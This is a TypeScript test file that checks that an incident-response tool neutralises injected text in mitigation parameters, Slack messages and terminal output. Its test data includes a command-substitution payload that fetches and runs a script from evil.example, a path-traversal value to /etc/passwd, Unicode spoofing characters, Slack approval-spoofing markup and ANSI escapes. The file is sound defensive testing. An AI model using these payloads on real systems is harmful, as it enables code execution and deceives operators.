/**
 * Evil user stories: injection. Whoever can send an event, a deployment notice or a command writes
 * text that reaches an approver's Slack, an operator's terminal, or Systems Manager. Each story is
 * one such payload and what it must not become.
 */
import { describe, expect, it } from 'vitest';
import { renderDrill } from '../../functions/local/drill/transcript.ts';
import type { DrillOutcome } from '../../functions/local/drill/run.ts';
import { renderList, renderIncident } from '../../bin/cli/incident-text.ts';
import { terminalJson, terminalSafe, terminalText } from '../../bin/cli/terminal-text.ts';
import { deploymentNotice } from '../../functions/core/deployments/messages.ts';
import { normalizeDeployment } from '../../functions/core/deployments/normalize-deployment.ts';
import type { Incident } from '../../functions/core/incidents/incident.ts';
import { PlanError, resolvePlan } from '../../functions/core/mitigations/mitigation.ts';
import type { MitigationEntry } from '../../functions/core/config.ts';
import { incidentMessage, type IncidentMessageInput } from '../../functions/core/slack/incident-messages.ts';
import { renderMessageText } from '../../functions/core/slack/message-text.ts';
import { code, escapeSlackText } from '../../functions/core/slack/text.ts';
import { exampleConfig, fixture } from '../support.ts';

const catalog = exampleConfig().mitigations;
/** A catalog entry with the loosest pattern a careless author could write. */
const loose: MitigationEntry = {
  ...catalog.find((e) => e.id === 'restart-service')!,
  parameters: { serviceName: { allowedPattern: '^.+$', description: 'anything at all' } },
};
const INCIDENT = { resources: ['i-0aaaaaaaaaaaaaaa1'] };
const plan = (serviceName: string) => resolvePlan(loose, INCIDENT, { serviceName });

describe('evil user stories: parameters that read differently from what runs', () => {
  it.each([
    [
      'a right-to-left override that makes "reboot" read as "toober"',
      'nginx\u202Etoober',
      /bidirectional control character \(U\+202E\)/,
    ],
    ['a directional isolate', 'gnp.\u2066exe\u2069', /bidirectional control character \(U\+2066\)/],
    ['a zero-width space hiding in a service name', 'ng\u200Binx', /zero-width character \(U\+200B\)/],
    ['a byte-order mark', '\uFEFFnginx', /zero-width character \(U\+FEFF\)/],
    ['a C1 control (NEL) that some tools read as a newline', 'nginx\u0085reboot', /control character \(U\+0085\)/],
    ['an 8-bit CSI that starts a terminal escape', 'nginx\u009B2J', /control character \(U\+009B\)/],
    ['a Unicode line separator', 'nginx\u2028reboot', /line or paragraph separator \(U\+2028\)/],
    [
      'a full-width semicolon that a downstream tool folds into ";"',
      'nginx\uFF1Breboot',
      /look-alike .* \(U\+FF1B reads as ";"\)/,
    ],
    [
      'a full-width dollar and parentheses: command substitution in disguise',
      '\uFF04(id)',
      /look-alike .* \(U\+FF04 reads as "\$"\)/,
    ],
    ['a two-dot leader that folds into ".."', '\u2025/etc/passwd', /look-alike .* \(U\+2025 reads as "\.\."\)/],
    ['plain ASCII command substitution', '$(curl evil.example|sh)', /never allowed in a parameter/],
  ])('%s is refused whatever the catalog pattern says', (_story, value, reason) => {
    expect(() => plan(value)).toThrow(PlanError);
    expect(() => plan(value)).toThrow(reason);
  });

  it('the refusal never echoes the invisible character back into Slack', () => {
    try {
      plan('x\u202Ey');
    } catch (error) {
      expect((error as Error).message).not.toMatch(/[\u202E]/);
    }
  });
});

describe('evil user stories: Slack formatting spoofing', () => {
  const SPOOF = '*APPROVED BY CTO* _urgent_ ~ignore~ `run me` <!channel> <https://evil.example|Runbook> <@U0CTO000001>';
  const incidentDetail = (title: string): IncidentMessageInput => ({
    incidentId: 'INC-B2D7BC30C6',
    version: 1,
    changes: ['opened'],
    status: 'open',
    severity: 'SEV2',
    category: 'security',
    title,
    channel: 'C0INCIDENTS',
    fingerprint: 'f'.repeat(64),
    source: 'aws.guardduty',
    account: '123456789012',
    region: 'us-east-1',
    resources: ['i-0aaaaaaaaaaaaaaa1'],
    signalCount: 1,
    firstSeen: '2026-03-01T10:00:00.000Z',
    lastSeen: '2026-03-01T10:00:00.000Z',
    mitigations: [],
  });

  it('a finding title "*APPROVED BY CTO*" is shown as typed but never bold, italic, struck or code in the incident message', () => {
    const message = incidentMessage(incidentDetail(SPOOF));
    const sent = JSON.stringify(message);
    expect(sent).not.toMatch(/\*APPROVED|_urgent_|~ignore~|`run me`/);
    expect(renderMessageText(message)).toContain('∗APPROVED BY CTO∗ ˍurgentˍ ∼ignore∼ ˋrun meˋ');
  });

  it('a title cannot mention the channel, a user, or disguise a link', () => {
    const sent = JSON.stringify(incidentMessage(incidentDetail(SPOOF)));
    expect(sent).not.toMatch(/<!channel>|<@U0CTO000001>|<https:\/\/evil/);
    expect(sent).toContain('&lt;!channel&gt;');
  });

  it('a line starting with ">" cannot become a quote that looks like a Firebreak message', () => {
    expect(escapeSlackText('ok\n> Approved by the CTO')).toBe('ok\n› Approved by the CTO');
    expect(escapeSlackText('  > quoted')).toBe('  › quoted');
  });

  it('a commit message with markup reaches #deployments inert', () => {
    const record = { ...normalizeDeployment(fixture('ecs-deployment-failed.json')), commitMessage: `Fix ${SPOOF}` };
    const text = JSON.stringify(deploymentNotice(record));
    expect(text).not.toMatch(/\*APPROVED|<!channel>|<https:\/\/evil/);
    expect(text).toContain('∗APPROVED BY CTO∗');
  });

  it('identifiers keep their underscores readable (my_service_name is not italic and not changed)', () => {
    expect(escapeSlackText('restart my_service_name now')).toBe('restart my_service_name now');
  });

  it('a parameter shown in a code span cannot close it: backticks become a look-alike, markup inside stays literal', () => {
    expect(code('a`*b*`c')).toBe('`aˋ*b*ˋc`');
  });
});

describe('evil user stories: terminal injection', () => {
  const ANSI = 'Disk full\u001b[2J\u001b[31mRED\u001b]0;pwned\u0007 \u009b31m8bit\u202Eevil';
  const incident = {
    id: 'INC-B2D7BC30C6',
    severity: 'SEV2',
    category: 'security',
    status: 'open',
    signalCount: 1,
    lastSeen: '2026-03-01T10:00:00.000Z',
    firstSeen: '2026-03-01T10:00:00.000Z',
    openedAt: '2026-03-01T10:00:00.000Z',
    title: `${ANSI}\nINC-FAKE0000000  SEV4  resolved`,
    source: 'firebreak.monitor.evil',
    kind: 'alert',
    subject: ANSI,
    account: '123456789012',
    region: 'us-east-1',
    resources: [ANSI],
    channel: 'C0INCIDENTS',
  } as unknown as Incident;
  // eslint-disable-next-line no-control-regex -- the point is to find any control character
  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  it('an ANSI escape in an event title cannot clear, recolour or retitle the screen in "incidents list"', () => {
    const out = renderList([incident]);
    expect(out).not.toMatch(CONTROL);
    expect(out).toContain('Disk fullRED 8bitevil');
  });

  it('a newline in a title cannot forge a second incident line', () => {
    expect(renderList([incident]).split('\n')).toHaveLength(1);
    expect(renderIncident(incident)).not.toMatch(CONTROL);
  });

  it('the drill transcript prints no control characters from the scenario', () => {
    const outcome = {
      scenario: `evil ${ANSI}`,
      transcript: [{ at: '2026-03-01T10:00:00.000Z', step: `inject ${ANSI}`, results: [ANSI] }],
      incidents: [incident],
      mitigations: [],
      slack: [{ channel: 'C0INCIDENTS', text: ANSI }],
      emitted: {},
      deadLetters: [{ eventId: ANSI, error: ANSI }],
      checks: [{ passed: false, expectation: ANSI, detail: ANSI }],
      passed: false,
    } as unknown as DrillOutcome;
    const out = renderDrill(outcome, '2026-03-01T10:00:00.000Z');
    expect(out).not.toMatch(CONTROL);
  });

  it('JSON output stays lossless but carries no raw C1, bidi or separator characters', () => {
    const out = terminalJson({ title: ANSI, sep: 'a\u2028b' });
    expect(out).not.toMatch(CONTROL);
    expect(out).not.toMatch(/[\u2028\u2029]/);
    expect(JSON.parse(out)).toEqual({ title: ANSI, sep: 'a\u2028b' });
  });

  it('terminalText keeps the lines of a report but strips what is inside them; terminalSafe makes one line', () => {
    expect(terminalText('a\u001b[1mb\nc\rd')).toBe('ab\nc d');
    expect(terminalSafe('a\nb\u001b[0m')).toBe('a b');
  });
});
